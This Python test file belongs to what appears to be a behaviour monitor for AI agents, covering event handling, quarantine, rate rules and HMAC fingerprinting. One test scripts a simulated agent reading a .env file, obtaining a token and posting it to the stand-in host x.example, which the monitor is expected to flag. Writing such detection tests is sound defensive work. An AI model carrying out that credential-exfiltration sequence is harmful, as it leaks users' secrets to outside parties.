"""Events no sequence reads (prompts, completions, messages) take the light path: quarantine,
session counter and trust only; everything that depends on them still holds. Also the
fingerprint's HMAC construction and the per-stage key cache."""

from __future__ import annotations

import hashlib
import hmac
from typing import Any

from behavior_kit import Runner, act, build, rules_of
from hypothesis import given, settings
from hypothesis import strategies as st

from aimds.behavior.dataflow import Fingerprinter
from aimds.behavior.memory import MemoryStore
from aimds.types import EventKind, Subject

KEY = "k" * 32


class _Recording:
    """A memory store that records the op types of each batch."""

    def __init__(self) -> None:
        self.inner = MemoryStore()
        self.batches: list[list[str]] = []

    def execute(self, ops: Any) -> Any:
        self.batches.append([type(op).__name__ for op in ops])
        return self.inner.execute(ops)

    def close(self) -> None:
        self.inner.close()


def test_a_prompt_costs_three_ops_and_a_tool_call_more() -> None:
    """A completion adds one read: the effect checks' state of the session."""
    store = _Recording()
    r = Runner(build({"fingerprint_key": KEY}, store=store))
    for kind in (EventKind.PROMPT, EventKind.COMPLETION, EventKind.MESSAGE):
        assert r.event(kind, text="hello there") == []
    light = ["Get", "Incr", "Trust"]
    assert store.batches == [light, [*light, "HashGet"], light]
    store.batches.clear()
    r = Runner(build({"fingerprint_key": KEY, "effects": {"enabled": False}}, store=store))
    r.event(EventKind.COMPLETION, text="hello there")
    assert store.batches == [light]
    r.call("cat", {"p": "a"}, act("fs:read", resources=("/a",)))
    assert len(store.batches[-1]) > 3


def test_prompts_count_in_the_session_index() -> None:
    r = Runner(build({"fingerprint_key": KEY}))
    token = "ghp_x7Kq2ZrV9mPwL3nT8bYc4HdF6jS1aE0uG5iO"
    r.event(EventKind.PROMPT, text="read my env file please")
    env = act("fs:read", "credential_access", "credential_store:env")
    r.call("read_file", {"path": ".env"}, env)
    r.result("read_file", f"TOKEN={token}")
    r.event(EventKind.COMPLETION, text="done")
    out = act("net:http_post", "outbound", resources=("x.example",), outbound=True)
    (found,) = r.call("http_post", {"body": token}, out)
    assert found.rule == "ASA-B-002"
    assert found.details["source_index"] == 2 and found.details["event_index"] == 4


def test_quarantine_and_tiers_still_apply_to_prompts() -> None:
    stage = build({"fingerprint_key": KEY, "tiers": {"standard": {"any": "warn"}}})
    r = Runner(stage)
    assert rules_of(r.event(EventKind.PROMPT, text="hi")) == ["behavior.trust.tier"]
    stage.behavior.quarantine("agent-1", tenant="acme")
    assert "behavior.quarantine" in rules_of(r.event(EventKind.PROMPT, text="hi"))


def test_temporal_rules_on_prompts_take_the_full_path() -> None:
    rule = {"id": "prompt-rate", "at_most": 2, "of": {"kind": "prompt"}, "per": "1m"}
    r = Runner(build({"fingerprint_key": KEY, "temporal": [rule]}))
    found = [rules_of(r.event(EventKind.PROMPT, text="x")) for _ in range(3)]
    assert found == [[], [], ["temporal.prompt-rate"]]


def test_key_cache_keeps_subjects_apart() -> None:
    stage = build({"fingerprint_key": KEY})
    for n in range(3):
        who = Subject(tenant="acme", agent=f"a{n % 2}", session=f"s{n}")
        assert stage._keys_of(who).scope == f"a{n % 2}/s{n}"
    assert stage._keys_of(Subject(tenant="t:x", agent="a")).tenant == "t%3Ax"


@settings(max_examples=100, deadline=None)
@given(st.binary(max_size=100), st.text(max_size=40))
def test_fingerprint_is_hmac_sha256(key: bytes, value: str) -> None:
    import unicodedata

    norm = unicodedata.normalize("NFKC", value).strip().encode("utf-8", "replace")
    expected = hmac.new(key, norm, hashlib.sha256).hexdigest()[:24]
    assert Fingerprinter(key)(value) == expected
